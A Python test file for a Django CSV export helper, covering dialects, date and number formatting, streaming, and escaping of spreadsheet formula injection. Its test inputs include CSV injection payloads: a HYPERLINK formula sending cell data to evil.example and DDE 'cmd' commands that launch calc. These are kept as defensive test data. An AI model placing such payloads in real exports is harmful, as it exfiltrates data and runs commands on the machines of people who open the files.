"""config/csv_export.py: the one safe CSV writer every export uses."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.test import RequestFactory

from config.csv_export import (
    BOM,
    EXCEL_FR,
    RFC4180,
    csv_response,
    dialect_from_request,
    format_cell,
    get_dialect,
    neutralise,
    write_csv,
)


@pytest.mark.parametrize(
    "dangerous",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
        "+33 1 23 45 67 89",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_cells_starting_with_a_formula_character_get_an_apostrophe(dangerous):
    assert neutralise(dangerous) == "'" + dangerous
    assert format_cell(dangerous) == "'" + dangerous


@pytest.mark.parametrize("harmless", ["", "Diallo", "Jean-Pierre", "a=b", "x@y.fr", " =1", "'quoted"])
def test_ordinary_text_is_kept_as_is(harmless):
    assert neutralise(harmless) == harmless


def test_typed_values_are_formatted_per_dialect_and_numbers_are_not_neutralised():
    moment = datetime.datetime(2025, 3, 1, 9, 30, tzinfo=datetime.UTC)  # 10:30 in Paris
    assert format_cell(-5) == "-5"
    assert format_cell(None) == ""
    assert format_cell(datetime.date(2025, 3, 1)) == "2025-03-01"
    assert format_cell(datetime.date(2025, 3, 1), EXCEL_FR) == "01/03/2025"
    assert format_cell(moment) == "2025-03-01T10:30:00+0100"
    assert format_cell(moment, EXCEL_FR) == "01/03/2025 10:30"
    assert format_cell(Decimal("12.50"), EXCEL_FR) == "12,50"
    assert format_cell(1.5) == "1.5"
    assert format_cell(True) == "true" and format_cell(False, EXCEL_FR) == "non"


def test_dialect_lookup_falls_back_to_the_default():
    assert get_dialect("excel-fr") is EXCEL_FR
    assert get_dialect("EXCEL-FR ") is EXCEL_FR
    assert get_dialect("nonsense") is RFC4180
    assert get_dialect(None) is RFC4180
    assert dialect_from_request(RequestFactory().get("/x?dialect=excel-fr")) is EXCEL_FR
    assert dialect_from_request(RequestFactory().get("/x")) is RFC4180


def _body(response):
    return b"".join(response.streaming_content).decode("utf-8")


def test_default_dialect_is_rfc4180_comma_crlf_and_quotes_what_needs_it():
    response = csv_response(
        filename="essai.csv",
        header=["Nom", "Note"],
        rows=[("Diallo, Aïcha", 'dit "bonjour"\nligne 2'), ("=1+1", datetime.date(2025, 1, 31))],
    )
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="essai.csv"'
    body = _body(response)
    assert not body.startswith(BOM)
    assert body == 'Nom,Note\r\n"Diallo, Aïcha","dit ""bonjour""\nligne 2"\r\n\'=1+1,2025-01-31\r\n'
    parsed = list(csv.reader(io.StringIO(body)))
    assert parsed[1] == ["Diallo, Aïcha", 'dit "bonjour"\nligne 2']


def test_excel_fr_dialect_has_a_bom_semicolons_and_french_dates():
    response = csv_response(
        filename="dossiers été.csv",
        header=["Nom", "Né·e le"],
        rows=[("Ndiaye; Moussa", datetime.date(1990, 5, 14)), ("@cmd", None)],
        dialect=EXCEL_FR,
    )
    raw = b"".join(response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel then reads accents right
    body = raw.decode("utf-8-sig")
    assert body == 'Nom;Né·e le\r\n"Ndiaye; Moussa";14/05/1990\r\n\'@cmd;\r\n'
    assert "filename*=utf-8''dossiers%20%C3%A9t%C3%A9.csv" in response["Content-Disposition"]


def test_rows_are_streamed_lazily_from_a_generator():
    produced = []

    def rows():
        for i in range(3):
            produced.append(i)
            yield (f"ligne {i}",)

    response = csv_response(filename="x.csv", header=["n"], rows=rows())
    assert produced == []  # nothing is read before the response is consumed
    iterator = iter(response.streaming_content)
    next(iterator)  # the header
    next(iterator)
    assert produced == [0]
    assert b"".join(iterator).decode() == "ligne 1\r\nligne 2\r\n"


def test_write_csv_to_a_file_counts_the_rows(tmp_path):
    path = tmp_path / "out.csv"
    with path.open("w", encoding="utf-8", newline="") as fileobj:
        count = write_csv(fileobj, header=["a"], rows=iter([("-1 x",), ("b",)]), dialect=EXCEL_FR)
    assert count == 2
    assert path.read_bytes() == b"\xef\xbb\xbfa\r\n'-1 x\r\nb\r\n"
